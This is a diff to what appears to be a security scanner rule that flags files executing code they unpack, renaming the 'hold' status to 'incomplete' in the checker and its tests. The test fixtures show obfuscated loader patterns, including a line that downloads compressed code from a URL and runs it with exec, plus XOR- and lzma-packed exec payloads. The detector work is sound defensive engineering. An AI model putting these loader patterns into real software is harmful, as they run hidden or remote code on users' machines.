@@ -16,7 +16,7 @@ _ALIKE = 0.6  # share of the lines from which a file is called a readable versio
 
 
 def check(case: Case) -> Iterator[Finding]:
-    """Yield a note for each packed file that could be opened, a hold for each that could not."""
+    """Yield a note for each packed file that could be opened, an incomplete for each that could not."""
     if case.program is None:
         return
     for unit in case.program.units.values():
@@ -25,7 +25,7 @@ def check(case: Case) -> Iterator[Finding]:
             yield Finding(
                 rule=SLUG,
                 group="package",
-                status="hold",
+                status="incomplete",
                 message=f"This file runs code that it unpacks, and that could not be unpacked here: {failure.reason}.",
                 path=failure.path,
                 line=failure.line,
@@ -113,7 +113,7 @@ import zlib
 exec(zlib.decompress(urllib.request.urlopen("https://example.org/train.z").read()))
 """,
             "exec(",
-            status="hold",
+            status="incomplete",
         ),
         Example(
             "the payload is missing",
@@ -124,7 +124,7 @@ from pathlib import Path
 exec(lzma.decompress(Path(__file__).with_name("payload.xz").read_bytes()))
 """,
             "exec(",
-            status="hold",
+            status="incomplete",
         ),
         Example(
             "the key is not in the submission",
@@ -136,7 +136,7 @@ data = base64.b64decode("{_BLOB}")
 exec(zlib.decompress(bytes(a ^ b for a, b in zip(data, key * 99))))
 """,
             "os.urandom(",
-            status="hold",
+            status="incomplete",
         ),
     ),
     valid=(
